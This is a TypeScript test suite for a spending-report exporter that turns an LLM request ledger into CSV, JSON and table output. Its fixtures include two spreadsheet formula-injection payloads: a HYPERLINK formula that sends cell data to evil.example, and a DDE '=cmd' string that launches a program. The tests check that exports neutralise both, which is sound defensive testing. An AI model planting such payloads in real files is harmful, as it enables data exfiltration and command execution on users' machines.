import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterEach, describe, expect, it } from 'vitest';
import { openStore, type Store } from '../../src/main/core/db/open-database';
import { RequestLedger } from '../../src/main/core/ledger/request-ledger';
import { readOnlyView, ReportWriteRefused } from '../../src/main/core/reports/report-db';
import { writeReport, writeReportFile, type ReportRequest } from '../../src/main/core/reports/report-export';
import { csvLine } from '../../src/main/core/reports/csv-format';
import { resolvePeriod } from '../../src/main/core/reports/report-period';
import { reportRows } from '../../src/main/core/reports/report-rows';
import { jsonRecord } from '../../src/main/core/reports/report-writers';
import { startOfLocalDay } from '../../src/main/core/time/zoned-calendar';
import type { PeriodRequest, ReportGrouping } from '../../src/shared/contract/spending-contract';
import { useTempDir } from '../helpers/temp-dir';
import { insertConversation, insertLedgerRows, randomRows } from './ledger-fixtures';

const TZ = 'Europe/Berlin';
const NOW = Date.UTC(2026, 10, 20, 11, 0, 0);
const tempDir = useTempDir();
const stores: Store[] = [];
afterEach(() => {
  for (const s of stores.splice(0)) s.close();
});

const NAMES: Record<string, string> = { openai: 'OpenAI', anthropic: 'Anthropic', openrouter: 'OpenRouter' };
const providerName = (id: string) => NAMES[id] ?? id;
const EVIL_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';

function seeded() {
  const dir = tempDir();
  const store = openStore({ file: join(dir, 'ledger.sqlite') });
  stores.push(store);
  const conversations = ['c-evil', 'c-quote', 'c-plain', 'c-deleted'];
  insertConversation(store.sqlite, 'c-evil', EVIL_TITLE);
  insertConversation(store.sqlite, 'c-quote', 'Budget "Q4", draft\nline two');
  insertConversation(store.sqlite, 'c-plain', 'Trip planning ✈');
  // c-deleted has ledger rows but no conversation row: it was deleted, the money stays spent.
  insertLedgerRows(store.sqlite, randomRows(11, 2500, startOfLocalDay(2026, 9, 20, TZ), startOfLocalDay(2026, 11, 21, TZ), conversations));
  insertLedgerRows(store.sqlite, [
    { id: 'open-1', startedAt: NOW - 1000, providerId: 'openai', model: 'gpt-4o', status: 'streaming', reserved: 5_000_000 },
  ]);
  new RequestLedger(store.sqlite, () => TZ).rebuildRollup();
  return { dir, store, db: readOnlyView(store.sqlite) };
}

async function report(db: ReturnType<typeof readOnlyView>, period: PeriodRequest, groupBy: ReportGrouping, format: ReportRequest['format'] = 'csv', bom = false) {
  const chunks: string[] = [];
  const rows = await writeReport(db, { period: resolvePeriod(period, NOW, TZ), groupBy, format, bom }, providerName, { write: (c) => void chunks.push(c) });
  return { rows, text: chunks.join('') };
}

function parseCsv(text: string): Record<string, string>[] {
  return parse(text, { columns: true, record_delimiter: '\r\n', bom: true }) as Record<string, string>[];
}

/** Exact sum of 9-place dollar strings, on their digits. */
function sumUsd(values: string[]): bigint {
  return values.reduce((sum, v) => {
    if (v === '') return sum;
    expect(v).toMatch(/^\d+\.\d{9}$/);
    return sum + BigInt(v.replace('.', ''));
  }, 0n);
}
const sumInt = (values: string[]) => values.reduce((sum, v) => sum + BigInt(v === '' ? '0' : v), 0n);

describe('reports', () => {
  it.each<PeriodRequest>([{ kind: 'all' }, { kind: 'this-month' }, { kind: 'last-month' }, { kind: '7d' }, { kind: '24h' }])(
    'every grouping adds up to the per-request report exactly (%j)',
    async (period) => {
      const { db } = seeded();
      const perRequest = parseCsv((await report(db, period, 'request')).text);
      expect(perRequest.length).toBeGreaterThan(period.kind === '24h' ? 10 : 100);
      const cost = sumUsd(perRequest.map((r) => r.cost_usd!));
      const tokens = (rows: Record<string, string>[], name: string) => sumInt(rows.map((r) => r[name]!));
      for (const groupBy of ['day', 'month', 'provider', 'model', 'conversation'] as const) {
        const grouped = parseCsv((await report(db, period, groupBy)).text);
        expect(sumUsd(grouped.map((r) => r.cost_usd!)), groupBy).toBe(cost);
        expect(sumInt(grouped.map((r) => r.requests!)), groupBy).toBe(BigInt(perRequest.length));
        for (const name of ['input_tokens', 'cached_input_tokens', 'cache_write_tokens', 'output_tokens', 'reasoning_tokens']) {
          expect(tokens(grouped, name), `${groupBy} ${name}`).toBe(tokens(perRequest, name));
        }
        const unpriced = perRequest.filter((r) => r.cost_usd === '' && r.status !== 'refused').length;
        expect(sumInt(grouped.map((r) => r.unpriced_requests!)), groupBy).toBe(BigInt(unpriced));
        expect(sumInt(grouped.map((r) => r.refused_requests!)), groupBy).toBe(BigInt(perRequest.filter((r) => r.status === 'refused').length));
        expect(sumInt(grouped.map((r) => r.estimated_requests!)), groupBy).toBe(BigInt(perRequest.filter((r) => r.usage_source === 'estimated').length));
      }
    },
  );

  it('request rows: ISO times with the offset, exact dollars, unknown prices empty, titles guarded, running rows left out', async () => {
    const { db } = seeded();
    const { text, rows } = await report(db, { kind: 'all' }, 'request');
    const parsed = parseCsv(text);
    expect(rows).toBe(parsed.length);
    expect(parsed.find((r) => r.request_id === 'open-1')).toBeUndefined();
    for (const r of parsed) {
      expect(r.started_at).toMatch(/^2026-(09|10|11)-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}\+0[12]:00$/);
      if (r.status === 'refused') expect(r.cost_usd).toBe('');
    }
    const unpriced = parsed.filter((r) => r.status !== 'refused' && r.input_usd_per_mtok === '');
    expect(unpriced.length).toBeGreaterThan(50);
    expect(unpriced.every((r) => r.cost_usd === '')).toBe(true);
    expect(parsed.find((r) => r.conversation_id === 'c-evil')!.conversation_title).toBe(`'${EVIL_TITLE}`);
    expect(parsed.find((r) => r.conversation_id === 'c-quote')!.conversation_title).toBe('Budget "Q4", draft\nline two');
    expect(parsed.find((r) => r.conversation_id === 'c-deleted')!.conversation_title).toBe('Deleted conversation');
    expect(parsed.find((r) => r.error === '\'=cmd|" /C calc"!A0')).toBeDefined();
    const priced = parsed.find((r) => r.input_usd_per_mtok === '0.018750000');
    expect(priced).toBeDefined();
    expect(new Set(parsed.map((r) => r.provider))).toEqual(new Set(['OpenAI', 'Anthropic', 'OpenRouter']));
    expect(new Set(parsed.map((r) => r.usage_source))).toEqual(new Set(['reported', 'estimated', '']));
    expect(text.split('\r\n')[0]).toBe(
      'request_id,started_at,finished_at,conversation_id,conversation_title,provider_id,provider,model,status,usage_source,' +
        'input_tokens,cached_input_tokens,cache_write_tokens,output_tokens,reasoning_tokens,input_usd_per_mtok,output_usd_per_mtok,' +
        'cache_read_usd_per_mtok,cache_write_usd_per_mtok,price_source,cost_usd,provider_cost_usd,ttft_ms,duration_ms,' +
        'finish_reason,cancel_reason,error,' +
        // Issue 15's, appended so the older columns keep their places.
        'cache_write_5m_tokens,cache_write_1h_tokens,cache_write_1h_usd_per_mtok,request_calls,request_usd_per_call,request_fee_usd,' +
        'web_search_calls,web_search_usd_per_call,web_search_fee_usd,call_fee_price_source',
    );
  });

  it('a request at 23:30 local on the last day of a month is in that month', async () => {
    const { db, store } = seeded();
    const at = startOfLocalDay(2026, 11, 1, TZ) - 30 * 60_000;
    insertLedgerRows(store.sqlite, [
      { id: 'late', startedAt: at, providerId: 'openai', model: 'late-model', status: 'completed', inputTokens: 7, outputTokens: 3, cost: 123_456_789, usageSource: 'provider' },
    ]);
    new RequestLedger(store.sqlite, () => TZ).rebuildRollup();
    const byMonth = parseCsv((await report(db, { kind: 'all' }, 'month')).text);
    const october = parseCsv((await report(db, { kind: 'last-month' }, 'model')).text);
    const november = parseCsv((await report(db, { kind: 'this-month' }, 'model')).text);
    expect(october.find((r) => r.model === 'late-model')).toMatchObject({ requests: '1', cost_usd: '0.123456789', input_tokens: '7' });
    expect(november.find((r) => r.model === 'late-model')).toBeUndefined();
    expect(byMonth.map((r) => r.month)).toEqual(['2026-09', '2026-10', '2026-11']);
    const late = parseCsv((await report(db, { kind: 'custom', from: '2026-10-31', to: '2026-10-31' }, 'request')).text).find((r) => r.request_id === 'late');
    expect(late?.started_at).toBe('2026-10-31T23:30:00.000+01:00');
  });

  it('JSON has the same fields and values: numbers as numbers, dollars as strings, unknown as null', async () => {
    const { db } = seeded();
    const csv = parseCsv((await report(db, { kind: 'last-month' }, 'provider')).text);
    const json = JSON.parse((await report(db, { kind: 'last-month' }, 'provider', 'json')).text) as Record<string, unknown>[];
    expect(json.map((r) => Object.keys(r))).toEqual(csv.map((r) => Object.keys(r)));
    expect(json.map((r) => [r.provider, String(r.requests), r.cost_usd])).toEqual(csv.map((r) => [r.provider, r.requests, r.cost_usd]));
    expect(typeof json[0]!.input_tokens).toBe('number');
    const requests = JSON.parse((await report(db, { kind: 'last-month' }, 'request', 'json')).text) as Record<string, unknown>[];
    expect(requests.some((r) => r.cost_usd === null && r.status !== 'refused')).toBe(true);
    expect(JSON.parse((await report(db, { kind: 'custom', from: '2030-01-01', to: '2030-01-02' }, 'request', 'json')).text)).toEqual([]);
  });

  it('the table is aligned and its total line sums the column exactly', async () => {
    const { db } = seeded();
    const csv = parseCsv((await report(db, { kind: 'last-month' }, 'model')).text);
    const { text, rows } = await report(db, { kind: 'last-month' }, 'model', 'table');
    const lines = text.trimEnd().split('\n');
    expect(rows).toBe(csv.length);
    expect(lines).toHaveLength(csv.length + 4);
    expect(lines[0]).toMatch(/^model\s+requests\s+input_tokens\s+output_tokens\s+cost_usd\s+unpriced_requests\s+estimated_requests$/);
    const total = sumUsd(csv.map((r) => r.cost_usd!)).toString().padStart(10, '0');
    const totalText = `${total.slice(0, -9)}.${total.slice(-9)}`;
    expect(lines.at(-1)).toContain(`Total (${csv.length} rows)`);
    expect(lines.at(-1)).toContain(totalText);
    // Numbers are right-aligned: the header's right edge is the total's.
    expect(lines[0]!.indexOf('cost_usd') + 'cost_usd'.length).toBe(lines.at(-1)!.indexOf(totalText) + totalText.length);
    expect(lines[1]).toMatch(/^-+( {2}-+)+$/);
  });

  it('a file export writes the BOM first when asked, and the CSV is the same as streamed', async () => {
    const { db, dir } = seeded();
    const file = join(dir, 'out.csv');
    const period = resolvePeriod({ kind: 'this-month' }, NOW, TZ);
    const rows = await writeReportFile(db, { period, groupBy: 'request', format: 'csv', bom: true }, providerName, file);
    const bytes = readFileSync(file);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.toString('utf8').slice(1)).toBe((await report(db, { kind: 'this-month' }, 'request')).text);
    expect(rows).toBe(parseCsv(bytes.toString('utf8')).length);
    await expect(writeReportFile(db, { period, groupBy: 'day', format: 'csv' }, providerName, join(dir, 'missing', 'x.csv'))).rejects.toThrow(/ENOENT/);
  });

  it('the report handle refuses any statement that writes', () => {
    const { db } = seeded();
    expect(() => db.prepare('DELETE FROM requests')).toThrow(ReportWriteRefused);
    expect(() => db.prepare("UPDATE requests SET cost_usd_nanos = 0 WHERE id = 'x'")).toThrow('Reports only read the ledger');
  });
});

describe('SQL-rendered request rows', () => {
  it('every CSV line and JSON object equals what the JavaScript writers make of the same row', async () => {
    const { db } = seeded();
    const rows = reportRows(db, resolvePeriod({ kind: 'all' }, NOW, TZ), 'request', providerName);
    const cells = [...rows.rows()];
    expect(cells.length).toBeGreaterThan(2000);
    expect([...rows.csvLines!()]).toEqual(cells.map((c) => csvLine(c, rows.fields)));
    expect([...rows.jsonObjects!()].map((o) => JSON.parse(o) as unknown)).toEqual(cells.map((c) => jsonRecord(c, rows.fields)));
  });
});
